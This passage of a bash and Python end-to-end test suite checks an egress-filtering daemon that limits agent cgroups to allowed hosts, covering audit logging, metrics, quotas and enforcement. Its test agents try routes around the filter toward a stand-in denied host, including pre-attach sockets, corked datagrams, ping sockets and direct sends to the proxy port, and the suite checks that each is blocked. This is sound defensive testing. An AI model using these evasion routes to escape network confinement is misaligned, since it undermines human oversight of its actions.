    return any(all(r.get(k) == v for k, v in kv.items()) for r in mine)
assert has(origin="dns", host="allowed.test", verdict="allow"), "no allowed DNS query"
assert has(verdict="allow", sni="allowed.test"), "no allowed connection"
assert any(r.get("verdict") == "deny" and r.get("origin") != "dns" for r in mine), "no denied connection"
PY

	out=$("$ctl" status --socket "$dsock" 2>&1) || fail "egressctl status: $(oneline "$out")"
	grep -Eq "^  $ino +[0-9]+ +v4" <<<"$out" ||
		fail "egressctl status does not list the pod's netns: $(oneline "$out")"

	# The pod goes away: its listeners are closed (two scans, ~4 s).
	bed_stop_pid "$PAUSE"
	PAUSE=
	cg_run 'rmdir "$CG'"$pod"'/pause" "$CG'"$pod"'/agent" "$CG'"$pod"'"' ||
		fail "cannot remove the pod's cgroups"
	for ((i = 0; i < 100; i++)); do
		grep -q "netns $ino .*listeners closed" "$CASE_STDERR" && break
		sleep 0.1
	done
	grep -q "netns $ino .*listeners closed" "$CASE_STDERR" ||
		fail "listeners in the pod's netns not closed after 10 s"
	for ((i = 0; i < 20; i++)); do
		out=$(ip netns exec "$NS_POD" ss -Hltun "sport = :$DAEMON_PORT")
		[ -z "$out" ] && break
		sleep 0.1
	done
	[ -z "$out" ] || fail "listeners left in the pod's netns: $(oneline "$out")"
}

# metric NAME{LABELS} FILE: the sample's value, empty if absent.
metric() { awk -v k="$1" '$1 == k { print $2 }' "$2"; }
scrape() {
	ip netns exec "$NS_HOST" curl -sS --noproxy '*' --max-time 5 \
		http://127.0.0.1:9464/metrics >"$1"
}

# logrotate's way: rename the audit log, SIGHUP. Records go to the new file
# at once, and no thread of the daemon holds the renamed one open (each
# proxy worker has a descriptor table of its own and its own handle on the
# file, fdbroker.h): deleting it frees its space.
case_daemon_audit_rotation() {
	need_egressd
	local i n0 n1 held old=$CASE_AUDIT.1 dsock=$E2E_DIR/ctl/rot.sock
	daemon_bed rot bpffs-rot daemon-rot agents/job1
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "proxy": { "workers": 3 },
  "policies": { "agents": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	for ((i = 0; i < 4; i++)); do
		in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
			-o /dev/null https://allowed.test/ || fail "job1 -> allowed.test failed"
	done
	n0=$(grep -c '"sni":"allowed.test"' "$CASE_AUDIT")
	[ "$n0" -ge 4 ] || fail "want 4 records before the rotation, got $n0"
	mv "$CASE_AUDIT" "$old"
	kill -HUP "$DPID"
	for ((i = 0; i < 50; i++)); do
		[ "$(grep -c "reloaded $DCFG" "$CASE_STDERR")" -ge 1 ] && break
		sleep 0.1
	done
	[ -e "$CASE_AUDIT" ] || fail "SIGHUP did not reopen the audit log"
	sleep 0.5 # the workers take the reopen from their mailboxes
	held=$(for f in /proc/"$DPID"/task/*/fd/*; do readlink "$f"; done 2>/dev/null |
		grep -c "$old")
	[ "$held" = 0 ] || fail "$held descriptor(s) of the daemon still on the rotated file"
	in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		-o /dev/null https://allowed.test/ || fail "job1 -> allowed.test failed after HUP"
	sleep 0.3
	n1=$(grep -c '"sni":"allowed.test"' "$old")
	[ "$n1" = "$n0" ] || fail "the rotated file grew: $n0 -> $n1 records"
	grep -q '"sni":"allowed.test"' "$CASE_AUDIT" ||
		fail "no record in the new audit file: $(oneline "$(cat "$CASE_AUDIT")")"
	note "$n0 records before the rotation; the one after it in the new file"
}

# No audit.path (the default, as in the systemd unit and the DaemonSet):
# the records go to standard output, one JSON object per line, and none
# of them to stderr.
case_daemon_audit_stdout() {
	need_egressd
	local i out=$E2E_DIR/cases/daemon_audit_stdout.stdout
	daemon_bed aso bpffs-aso daemon-aso agents/job1
	cat >"$DCFG" <<JSON
{ "policies": { "agents": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	: >"$out"
	DSTDOUT=$out daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		-o /dev/null https://allowed.test/ || fail "job1 -> allowed.test failed"
	# refused at its DNS query: a deny record with "host"
	in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		-o /dev/null https://evil.test/ 2>/dev/null && fail "job1 reached evil.test"
	for ((i = 0; i < 50; i++)); do
		grep -q '"host":"evil.test"' "$out" && break
		sleep 0.1
	done
	"$E2E_PY" -c 'import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
ok = any(r.get("sni") == "allowed.test" and r["verdict"] == "allow" for r in recs)
no = any(r.get("host") == "evil.test" and r["verdict"] == "deny" for r in recs)
sys.exit(0 if ok and no else 1)' "$out" ||
		fail "stdout lacks the two records: $(oneline "$(cat "$out")")"
	grep -q '"verdict"' "$CASE_STDERR" && fail "records on stderr: $(oneline "$(grep '"verdict"' "$CASE_STDERR")")"
	note "$(wc -l <"$out") records on stdout, none on stderr"
}

# Type=notify (deploy/systemd/egressd.service): READY=1 on $NOTIFY_SOCKET
# only once the attach point's programs are pinned and egressctl answers,
# STOPPING=1 at SIGTERM.
case_daemon_sd_notify() {
	need_egressd
	local i out nsock=$E2E_DIR/run/notify.sock got=$E2E_DIR/run/notify.out
	local dsock=$E2E_DIR/ctl/sdn.sock ctl=$E2E_REPO/egressctl ino
	daemon_bed sdn bpffs-sdn daemon-sdn agents/job1
	ino=$(cg_run 'stat -c %i "$CG'"$DCG"'/agents"') || fail "no cgroup $DCG/agents"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	rm -f "$nsock" "$got"
	# at each datagram: is the attach point pinned, does egressctl answer?
	"$E2E_PY" -c 'import os, socket, subprocess, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind(sys.argv[1])
s.settimeout(30)
ino = sys.argv[3]
with open(sys.argv[2] + ".tmp", "w") as out:
    for _ in range(2):
        try:
            m = s.recv(4096).decode()
        except socket.timeout:
            break
        pinned = os.path.isdir(os.path.join(sys.argv[4], "egressd/links", ino))
        ctl = subprocess.run([sys.argv[5], "status", "--socket", sys.argv[6]],
                             capture_output=True).returncode == 0
        out.write("%s pinned=%d ctl=%d\n" % (m, pinned, ctl))
        out.flush()
os.rename(sys.argv[2] + ".tmp", sys.argv[2])' "$nsock" "$got" "$ino" "$DBPF" "$ctl" "$dsock" &
	bed_track $!
	for ((i = 0; i < 50; i++)); do [ -S "$nsock" ] && break; sleep 0.1; done
	[ -S "$nsock" ] || fail "the notify listener did not start"
	export NOTIFY_SOCKET=$nsock
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	unset NOTIFY_SOCKET
	for ((i = 0; i < 50; i++)); do
		grep -q "READY=1" "$got.tmp" 2>/dev/null && break
		sleep 0.1
	done
	kill -TERM "$DPID"
	for ((i = 0; i < 100; i++)); do [ -e "$got" ] && break; sleep 0.1; done
	out=$(cat "$got" 2>/dev/null || cat "$got.tmp" 2>/dev/null)
	grep -qx "READY=1 pinned=1 ctl=1" <<<"$out" ||
		fail "want READY=1 once attached and egressctl answers, got: $(oneline "$out")"
	grep -q "^STOPPING=1 " <<<"$out" || fail "no STOPPING=1 at SIGTERM: $(oneline "$out")"
	note "$(oneline "$out")"
}

case_daemon_observability() {
	need_egressd
	local out rc i pid ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/obs.sock
	local lj=$E2E_DIR/obs-log.json
	local lt=$E2E_DIR/obs-log.txt m0=$E2E_DIR/obs-m0 m1=$E2E_DIR/obs-m1
	local ljpid ltpid dlpid a0 a1 d0 d1 dst
	daemon_bed obs bpffs-obs daemon-obs agents/job1
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": "127.0.0.1:9464" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	grep -q "metrics on 127.0.0.1:9464" "$CASE_STDERR" ||
		fail "no metrics listener: $(tail -3 "$CASE_STDERR")"

	# bad arguments: exit 2, before any daemon is asked
	out=$("$ctl" log --socket "$dsock" 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "only -f" <<<"$out" || fail "log without -f: rc $rc: $out"
	out=$("$ctl" log -f --verdict maybe --socket "$dsock" 2>&1); rc=$?
	[ $rc = 2 ] || fail "log --verdict maybe: rc $rc: $out"
	out=$("$ctl" log -f --cgroup 'rel/*' --socket "$dsock" 2>&1); rc=$?
	[ $rc = 2 ] || fail "log --cgroup rel/*: rc $rc: $out"
	out=$("$ctl" conns --socket "$E2E_DIR/ctl/none.sock" 2>&1); rc=$?
	[ $rc = 1 ] && grep -q "is egressd daemon running?" <<<"$out" ||
		fail "conns without a daemon: rc $rc: $out"

	# followers, started before the connections: every decision as JSON;
	# and only denials of job* cgroups, as text
	"$ctl" log -f --json --socket "$dsock" >"$lj" 2>"$lj.err" &
	ljpid=$!
	bed_track $ljpid
	"$ctl" log -f --verdict deny --cgroup "$DCG/agents/job*" --socket "$dsock" \
		>"$lt" 2>"$lt.err" &
	ltpid=$!
	bed_track $ltpid
	for ((i = 0; i < 50; i++)); do
		grep -q "following decisions" "$lj.err" && grep -q "following decisions" "$lt.err" &&
			break
		sleep 0.1
	done
	grep -q "following decisions" "$lt.err" || fail "log -f did not start: $(cat "$lt.err")"
	scrape "$m0" || fail "GET /metrics failed"
	a0=$(metric 'egressd_decisions_total{verdict="allow"}' "$m0")
	d0=$(metric 'egressd_decisions_total{verdict="deny"}' "$m0")
	[ -n "$a0" ] && [ -n "$d0" ] || fail "no decision counters: $(oneline "$(cat "$m0")")"

	in_cg "$DCG/agents/job1" curl -sS --max-time 30 --cacert "$E2E_CA" \
		-w 'HTTP %{http_code}, %{size_download} bytes from %{remote_ip} in %{time_total} s\n' \
		-o /dev/null "https://allowed.test/slow?ms=8000" >"$E2E_DIR/obs-dl.out" &
	dlpid=$!
	bed_track $dlpid
	# the download (1 MiB the server paces over 8 s) may take a while to
	# start on a loaded machine, and its upstream connect to finish (the
	# first use of the bed's IPv6 route, in a case run alone)
	for ((i = 0; i < 150; i++)); do
		out=$("$ctl" conns --json --socket "$dsock") || fail "egressctl conns --json failed"
		python3 -c 'import json, sys
sys.exit(not any(c.get("sni") == "allowed.test" and c["state"] == "relay"
                 for c in json.load(sys.stdin)["conns"]))' <<<"$out" && break
		sleep 0.1
	done
	note "conns: $(oneline "$out")"
	pid=$(python3 -c 'import json, sys
c = [c for c in json.load(sys.stdin)["conns"] if c.get("sni") == "allowed.test"][0]
assert c["comm"] == "curl" and c["cgroup"].endswith("/agents/job1"), c
assert c["dst"] in sys.argv[1:] and c["dst_port"] == 443 and c["policy"] == "agents", c
assert c["verdict"] == "allow" and c["state"] == "relay", c
d = c["dst"] if "." in c["dst"] else "[%s]" % c["dst"]
print(c["pid"], d)' "$ALLOWED4" "$ALLOWED6" <<<"$out") ||
		fail "egressctl conns: $(oneline "$out"); download $(kill -0 $dlpid 2>/dev/null &&
			echo running || echo ended): $(oneline "$(cat "$E2E_DIR/obs-dl.out")"); audit: $(tail -c 400 "$CASE_AUDIT" | tr '\n' ' ')"
	read -r pid dst <<<"$pid"
	# the pid is a curl in job1
	[ "$(cat "/proc/$pid/comm" 2>/dev/null)" = curl ] &&
		grep -q "$DCG/agents/job1\$" "/proc/$pid/cgroup" ||
		fail "conns pid $pid is not the curl in job1"
	out=$("$ctl" conns --socket "$dsock") || fail "egressctl conns failed"
	grep -Fq "$dst:443" <<<"$out" &&
	grep -Eq "^[0-9.smhd]+ +$pid +curl +$DCG/agents/job1 +[^ ]+:443 +allowed.test +relay +allow +agents " \
		<<<"$out" || fail "egressctl conns table: $(oneline "$out")"

	# while it runs: one allowed and one denied connection
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "job1 -> allowed.test: $(oneline "$out")"
	# (its DNS query is denied too: --resolve makes it reach the proxy)
	in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "evil.test:443:$EVIL4" https://evil.test/ >/dev/null 2>&1 &&
		fail "job1 -> evil.test succeeded"
	kill -0 $dlpid 2>/dev/null || fail "the slow download ended too early: $(cat "$E2E_DIR/obs-dl.out")"
	wait $dlpid || fail "slow download: exit $?: $(cat "$E2E_DIR/obs-dl.out")"
	sleep 0.3

	scrape "$m1" || fail "GET /metrics failed"
	a1=$(metric 'egressd_decisions_total{verdict="allow"}' "$m1")
	d1=$(metric 'egressd_decisions_total{verdict="deny"}' "$m1")
	note "metrics: allow $a0 -> $a1, deny $d0 -> $d1"
	[ "$a1" -ge $((a0 + 2)) ] && [ "$d1" -ge $((d0 + 1)) ] ||
		fail "decision counters: allow $a0 -> $a1, deny $d0 -> $d1"
	[ "$(metric 'egressd_connections_total{origin="proxy",verdict="deny",reason="no_match"}' "$m1")" -ge 1 ] ||
		fail "no proxy no_match denial in the metrics"
	[ "$(metric 'egressd_dns_queries_total{verdict="allow"}' "$m1")" -ge 1 ] ||
		fail "no allowed DNS query counted: $(grep dns_queries "$m1" | tr '\n' ' ')"
	[ "$(metric 'egressd_bytes_total{direction="down"}' "$m1")" -ge $((1 << 20)) ] ||
		fail "bytes down: $(grep bytes_total "$m1" | tr '\n' ' ')"
	grep -q '^egressd_active_connections [0-9]' "$m1" || fail "no active connections gauge"
	grep -q '^egressd_kernel_denied_total [0-9]' "$m1" || fail "no egr_stats counters"
	[ "$(metric egressd_config_last_reload_successful "$m1")" = 1 ] ||
		fail "reload status"

	# the followers saw both decisions; the deny-only one no allow
	kill -INT $ljpid $ltpid
	wait $ljpid || fail "log -f --json: exit $? on SIGINT: $(cat "$lj.err")"
	wait $ltpid || fail "log -f: exit $? on SIGINT: $(cat "$lt.err")"
	note "log -f --verdict deny: $(oneline "$(cat "$lt")")"
	python3 -c 'import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
got = {(r["verdict"], r.get("sni")) for r in recs if r.get("origin") == "proxy"}
assert ("allow", "allowed.test") in got and ("deny", "evil.test") in got, got
assert any(r.get("origin") == "dns" and r.get("host", "").startswith("allowed.test")
           for r in recs), "no DNS record"
dl = [r for r in recs if r.get("sni") == "allowed.test" and r["bytes_down"] >= 1 << 20]
assert dl and dl[0]["comm"] == "curl", "no record of the download"' "$lj" ||
		fail "log -f --json: $(oneline "$(cat "$lj")")"
	grep -Eq "deny +curl\[[0-9]+\] $DCG/agents/job1 -> evil.test:443 \(($EVIL4|${EVIL6:-2001:db8::66})\) no_match" "$lt" ||
		fail "log -f --verdict deny: no evil.test line: $(oneline "$(cat "$lt")")"
	grep -q " allow " "$lt" && fail "log -f --verdict deny printed an allow"

	# a refused reload shows in the metrics
	cp "$DCFG" "$DCFG.good"
	echo '{ "policies": { "agents": { "alow": [] } } }' >"$DCFG"
	"$ctl" reload --socket "$dsock" >/dev/null 2>&1 && fail "invalid reload accepted"
	cp "$DCFG.good" "$DCFG"
	scrape "$m1" || fail "GET /metrics failed"
	[ "$(metric egressd_config_last_reload_successful "$m1")" = 0 ] &&
		[ "$(metric 'egressd_config_reloads_total{result="failure"}' "$m1")" = 1 ] ||
		fail "refused reload not in the metrics: $(grep reload "$m1" | tr '\n' ' ')"
	out=$(ip netns exec "$NS_HOST" curl -sS --noproxy '*' --max-time 5 -o /dev/null \
		-w '%{http_code}' http://127.0.0.1:9464/other)
	[ "$out" = 404 ] || fail "GET /other: $out"
}

# Sockets an agent made before the daemon attached its programs got no
# origin record from cgroup/sock_create: connect4 (TCP) and sendmsg4
# (unconnected UDP) make it when they redirect. The TCP connection reaches
# allowed.test through the proxy and shows the original peer, evil.test is
# refused, and a DNS query sent with sendto() is answered by the DNS proxy
# and appears to come from the server asked. Sockets the agent had already
# connected (TCP to evil.test, UDP to the DNS server) saw no hook at all:
# their packets are dropped (cgroup_skb/egress: not to the proxy), and
# logged once each, as is a UDP socket connected to port 0, a datagram
# corked (MSG_MORE) before the attach and flushed after, which runs no
# sendmsg hook, and an ICMP ping socket (sock_create refuses new ones, not
# one made before); a connection accepted by a listener of the agent after the
# attach still answers whoever connected in.
# wait_agent PID RESULT: wait (up to 15 s) for a case's agent started in
# the background; fails the case if it failed. Its output is then in $out
# (and in the case's notes).
wait_agent() {
	local i
	for ((i = 0; i < 150; i++)); do
		kill -0 "$1" 2>/dev/null || break
		sleep 0.1
	done
	wait "$1" || fail "agent failed: $(oneline "$(cat "$2")")"
	out=$(cat "$2")
	note "$(oneline "$out")"
}

case_daemon_socket_before_attach() {
	need_egressd
	local out i
	local dsock=$E2E_DIR/ctl/preattach.sock
	local ready=$E2E_DIR/run/preattach.ready go=$E2E_DIR/run/preattach.go
	local res=$E2E_DIR/run/preattach.out
	daemon_bed preattach bpffs-preattach daemon-preattach agents/job1
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "agents": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	# shellcheck disable=SC2016
	local agent='
import os, socket, sys, time
ready, go = sys.argv[1:3]
a = socket.socket()
e = socket.socket()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
pre = socket.create_connection(("'$EVIL4'", 80), 5)
pu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
pu.connect(("'$DNS4'", 53))
p0 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
p0.connect(("'$EVIL4'", 0))
cu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
cu.sendto(b"corked-", socket.MSG_MORE, ("'$EVIL4'", 9999))
pg = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
lst = socket.socket()
lst.bind(("127.0.0.1", 0))
lst.listen()
open(ready, "w").write(str(lst.getsockname()[1]))
for _ in range(300):
    if os.path.exists(go):
        break
    time.sleep(0.05)
else:
    sys.exit("never told to go")
for s in (a, e, u):
    s.settimeout(5)
a.connect(("'$ALLOWED4'", 80))
print("peer %s:%d" % a.getpeername())
a.sendall(b"GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
body = b""
while True:
    c = a.recv(4096)
    if not c:
        break
    body += c
print("allowed:", body.decode(errors="replace").splitlines()[-1])
try:
    e.connect(("'$EVIL4'", 80))
    e.sendall(b"GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n")
    print("evil:", e.recv(4096).decode(errors="replace").replace("\n", " "))
except OSError as x:
    print("evil refused:", x)
q = bytes.fromhex("12340100000100000000000007616c6c6f7765640474657374000001 0001".replace(" ", ""))
u.sendto(q, ("'$DNS4'", 53))
r, src = u.recvfrom(512)
print("dns from %s:%d" % src, "answer" if bytes([192, 0, 2, 10]) in r[12:] else "no answer")
pre.settimeout(2)
try:
    pre.sendall(b"GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n")
    print("pre-connected evil:", pre.recv(4096).decode(errors="replace").replace("\n", " "))
except OSError as x:
    print("pre-connected evil refused:", x)
pu.settimeout(2)
try:
    pu.send(q)
    print("pre-connected dns answered", len(pu.recv(512)))
except OSError as x:
    print("pre-connected dns refused:", x)
echo = b"\x08\x00\x00\x00\x00\x00\x00\x01ping-payload"
for name, send in (("port 0", lambda: p0.send(b"x")), ("corked", lambda: cu.send(b"tail")),
                   ("ping", lambda: pg.sendto(echo, ("'$EVIL4'", 0)))):
    try:
        send()
        print("pre-connected udp %s sent" % name)
    except OSError as x:
        print("pre-connected udp %s refused:" % name, x)
try:  # straight to the proxy port: no origin, judged as any UDP
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    d.sendto(q, ("127.0.0.1", '$DAEMON_PORT'))
    print("proxy port direct sent")
except OSError as x:
    print("proxy port direct refused:", x.errno)
lst.settimeout(5)
c, _ = lst.accept()
c.sendall(c.recv(64).upper())
print("inbound served")
'
	in_cg "$DCG/agents/job1" "$E2E_PY" -c "$agent" "$ready" "$go" >"$res" 2>&1 &
	local apid=$!
	bed_wait_file "$ready" 10 || fail "the agent did not start: $(oneline "$(cat "$res")")"
	log_mark evil.test
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	sleep 0.3
	: >"$go"
	# someone outside the cgroup connects to the agent's listener
	local inbound
	inbound=$(in_host "$E2E_PY" -c 'import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 10)
s.settimeout(10)
s.sendall(b"ping")
print(s.recv(64).decode())' "$(cat "$ready")" 2>&1)
	wait_agent "$apid" "$res"
	[ "$inbound" = PING ] || fail "the agent's listener did not answer: $(oneline "$inbound")"
	grep -q "^inbound served\$" <<<"$out" || fail "inbound: $(oneline "$out")"
	grep -q "^pre-connected evil refused" <<<"$out" ||
		fail "a connection made before the daemon still reached evil.test: $(oneline "$out")"
	grep -q "^pre-connected dns refused" <<<"$out" ||
		fail "a UDP socket connected before the daemon still reached the DNS server: $(oneline "$out")"
	grep -q "^pre-connected udp port 0 refused" <<<"$out" ||
		fail "a UDP socket connected to port 0 before the daemon still sent: $(oneline "$out")"
	grep -q "^pre-connected udp corked refused" <<<"$out" ||
		fail "a datagram corked before the daemon was sent: $(oneline "$out")"
	grep -q "^proxy port direct refused: 1\$" <<<"$out" ||
		fail "a datagram straight to the proxy's port was sent: $(oneline "$out")"
	grep -Eq '"dst_port": *'"$DAEMON_PORT"',.*"reason": *"udp"' "$CASE_AUDIT" ||
		fail "no record for the datagram to the proxy's port"
	grep -q "^pre-connected udp ping refused" <<<"$out" ||
		fail "a ping socket made before the daemon still sent: $(oneline "$out")"
	grep -Eq '"dst": *"'"$EVIL4"'", *"dst_port": *80,.*"reason": *"not_redirected"' "$CASE_AUDIT" ||
		fail "no not_redirected record for evil.test: $(oneline "$(grep not_redirected "$CASE_AUDIT")")"
	grep -Eq '"dst": *"'"$EVIL4"'", *"dst_port": *9999,.*"reason": *"not_redirected"' "$CASE_AUDIT" ||
		fail "no not_redirected record for the corked datagram: $(oneline "$(grep not_redirected "$CASE_AUDIT")")"
	[ "$(grep -c '"reason": *"not_redirected"' "$CASE_AUDIT")" = 5 ] ||
		fail "not one record per socket: $(oneline "$(grep not_redirected "$CASE_AUDIT")")"
	grep -q "^peer $ALLOWED4:80\$" <<<"$out" || fail "getpeername: $(oneline "$out")"
	grep -q "^allowed: hello from allowed.test" <<<"$out" ||
		fail "allowed.test not reached: $(oneline "$out")"
	grep -q "hello from evil" <<<"$out" && fail "evil.test answered"
	grep -q "^evil" <<<"$out" || fail "no evil.test attempt: $(oneline "$out")"
	evil_untouched "socket made before attach"
	grep -q "^dns from $DNS4:53 answer\$" <<<"$out" || fail "DNS: $(oneline "$out")"
	grep -q '"reason": *"no_match"' "$CASE_AUDIT" ||
		fail "no no_match record for evil.test in the audit log"
}

# One tenant cannot take the kernel's shared tables from the others. Two
# cgroups bound separately, max_conns_per_cgroup 20: job1 holds UDP
# sockets that sent DNS (each one an entry in egr_udp_socks until it is
# closed) and is refused its 21st with EPERM, while job2 still resolves
# and connects; once job1 closes them it resolves again, and the kernel's
# per-tenant counts (egr_usage) are back to zero after TCP connections
# and DNS sockets of both come and go, a daemon restart in between (while
# job1 held its sockets: they must not take themselves off the new
# counts when they close).
case_daemon_tenant_quota() {
	need_egressd
	local out apid i
	local ready=$E2E_DIR/run/quota.ready go=$E2E_DIR/run/quota.go res=$E2E_DIR/run/quota.out
	daemon_bed quota bpffs-quota daemon-quota agents/job1
	cg_run 'mkdir -p "$CG'"$DCG"'/agents/job2"' || fail "cannot create job2"
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$E2E_DIR/ctl/quota.sock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "proxy": { "max_conns_per_cgroup": 20 },
  "policies": { "agents": { "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "agents" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	# shellcheck disable=SC2016
	local agent='
import os, socket, sys, time
ready, go = sys.argv[1:3]
q = bytes.fromhex("12340100000100000000000007616c6c6f7765640474657374000001 0001".replace(" ", ""))
held, refused = [], 0
for _ in range(30):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(q, ("'$DNS4'", 53))
        held.append(u)
    except PermissionError:
        refused += 1
        u.close()
print("held", len(held), "refused", refused)
sys.stdout.flush()
open(ready, "w").write("1")
for _ in range(300):
    if os.path.exists(go):
        break
    time.sleep(0.05)
for u in held:
    u.close()
'
	in_cg "$DCG/agents/job1" "$E2E_PY" -c "$agent" "$ready" "$go" >"$res" 2>&1 &
	apid=$!
	bed_wait_file "$ready" 10 || fail "the agent did not get to hold: $(oneline "$(cat "$res")")"
	grep -q "^held 20 refused 10\$" "$res" || fail "job1 at its cap: $(oneline "$(cat "$res")")"
	out=$(in_cg "$DCG/agents/job2" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "job2 while job1 holds its cap: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) && fail "job1 resolved past its cap of 20 DNS sockets"
	note "job1 at its cap: $(oneline "$out")"
	# a daemon restart while they are held: the counts start over, and
	# the sockets counted before must not take themselves off the new
	# counts when they close (a count below zero for good)
	daemon_kill9
	daemon_start || fail "daemon did not restart: $(tail -3 "$CASE_STDERR")"
	# counted afresh: the held ones are not, this lookup is
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "job1 after the restart: $(oneline "$out")"
	: >"$go"
	wait_agent "$apid" "$res"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "job1 after closing its sockets: $(oneline "$out")"
	grep -q '"reason": *"conn_limit"' "$CASE_AUDIT" || fail "no conn_limit record in the audit log"
	# both tenants: TCP connections and DNS lookups that come and go
	for i in 1 2; do
		out=$(in_cg "$DCG/agents/job$i" sh -c 'for n in 1 2 3 4 5 6 7 8 9 10; do
			curl -sS --max-time 5 --cacert "$1" https://allowed.test/ >/dev/null || exit 1
			done' sh "$E2E_CA") || fail "job$i: ten fetches: $(oneline "$out")"
	done
	sleep 0.3
	out=$(bpftool -j map dump pinned "$DBPF/egressd/egr_usage" 2>&1) ||
		fail "cannot read egr_usage: $(oneline "$out")"
	"$E2E_PY" -c 'import json, sys
rows = json.loads(sys.argv[1])
vals = [r["formatted"]["value"] if "formatted" in r else r["value"] for r in rows]
assert len(rows) == 2, rows
for v in vals:
    assert v["tcp"] == 0 and v["udp"] == 0, vals
' "$out" || fail "egr_usage after everything closed: $(oneline "$out")"
}

# Audit mode lets through what enforce would refuse in the kernel (here
# UDP to a port other than DNS) on the socket's own connection, and a
# socket connected before the daemon started (logged once as audit). A
# reload to enforce must cut both, not only refuse new ones: their next
# datagrams are dropped (EPERM), and each socket's cut is on record
# (not_redirected, deny), besides the pre-attach one's audit record.
case_daemon_audit_to_enforce() {
	need_egressd
	local out rc apid
	local dsock=$E2E_DIR/ctl/a2e.sock ctl=$E2E_REPO/egressctl
	local run=$E2E_DIR/run/a2e res=$E2E_DIR/run/a2e.out
	mkdir -p "$run" && chmod 1777 "$run" # the agent (nobody) writes there
	daemon_bed a2e bpffs-a2e daemon-a2e agents/job1
	a2e_config() {
		cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "p": { "mode": "$1", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "p" } ] }
JSON
	}
	# shellcheck disable=SC2016
	local agent='
import os, socket, sys, time
run = sys.argv[1]
def step(n):
    sys.stdout.flush()
    open(os.path.join(run, "ready%d" % n), "w").write("1")
    for _ in range(300):
        if os.path.exists(os.path.join(run, "go%d" % n)):
            return
        time.sleep(0.05)
    sys.exit("never told to go on from step %d" % n)
def send(s, what):
    # nothing listens on evil.test: clear the port-unreachable an earlier
    # datagram earned, or this send reports it
    s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    try:
        s.send(b"x")
        print(what, "sent")
    except OSError as x:
        print(what, "refused", x.errno)
p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
p.connect(("'$EVIL4'", 9998))
step(0)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(("'$EVIL4'", 9999))
send(u, "audit direct:")
send(p, "audit pre:")
time.sleep(0.3)
step(1)
send(u, "enforce direct:")
send(p, "enforce pre:")
'
	in_cg "$DCG/agents/job1" "$E2E_PY" -c "$agent" "$run" >"$res" 2>&1 &
	apid=$!
	bed_wait_file "$run/ready0" 10 || fail "the agent did not start: $(oneline "$(cat "$res")")"
	a2e_config audit
